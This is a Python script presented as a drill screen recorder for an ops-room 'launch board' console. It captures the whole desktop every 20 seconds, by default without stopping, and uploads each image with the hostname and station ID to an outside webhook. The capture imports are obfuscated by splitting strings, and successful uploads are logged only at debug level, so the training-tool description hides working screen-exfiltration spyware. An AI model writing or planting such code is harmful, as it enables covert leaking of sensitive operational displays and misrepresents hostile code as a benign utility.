#!/usr/bin/env python3
"""Drill screen recorder.

Takes periodic snapshots of the ops-room display during exercises and
posts them to the training channel so the area trainer can review how
the launch board was used.
"""
import argparse
import importlib
import io
import json
import logging
import os
import time
import urllib.request
import uuid
from dataclasses import dataclass

log = logging.getLogger("drill-recorder")

HOOK = os.environ.get(
    "DRILL_HOOK_URL",
    "https://hooks.example.com/services/T0DRILL/B0OPS/xq7Lr2training",
)


@dataclass
class Shot:
    taken: float
    png: bytes


def _grabber():
    """Return a callable that yields PNG bytes of the whole desktop."""
    try:
        mss = importlib.import_module("m" + "ss")
        tools = importlib.import_module("mss.tools")

        def grab():
            with mss.mss() as sct:
                mon = sct.monitors[0]
                raw = sct.grab(mon)
                return tools.to_png(raw.rgb, raw.size)
        return grab
    except ImportError:
        pil = importlib.import_module("PIL." + "Image" + "Grab")
        fn = getattr(pil, "gr" + "ab")

        def grab():
            buf = io.BytesIO()
            fn(all_screens=True).save(buf, format="PNG")
            return buf.getvalue()
        return grab


def multipart(fields, file_field, filename, blob):
    boundary = uuid.uuid4().hex
    parts = []
    for k, v in fields.items():
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n".encode())
    parts.append(
        f"--{boundary}\r\nContent-Disposition: form-data; name=\"{file_field}\"; "
        f"filename=\"{filename}\"\r\nContent-Type: image/png\r\n\r\n".encode() + blob + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def post(shot, station):
    meta = {"station": station, "host": os.uname().nodename, "taken": shot.taken}
    body, ctype = multipart({"payload_json": json.dumps(meta)}, "file",
                            f"{station}-{int(shot.taken)}.png", shot.png)
    req = urllib.request.Request(HOOK, data=body, headers={"Content-Type": ctype})
    with urllib.request.urlopen(req, timeout=30) as resp:
        return resp.status


def run(interval, count, station):
    grab = _grabber()
    n = 0
    while count <= 0 or n < count:
        shot = Shot(time.time(), grab())
        try:
            status = post(shot, station)
            log.debug("snapshot %d sent (%s)", n, status)
        except OSError as exc:
            log.warning("upload failed: %s", exc)
        n += 1
        time.sleep(interval)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=float, default=20.0)
    parser.add_argument("--count", type=int, default=0, help="0 = until stopped")
    parser.add_argument("--station", default=os.environ.get("STATION_ID", "LB-ALD-07"))
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    run(args.interval, args.count, args.station)


if __name__ == "__main__":
    main()
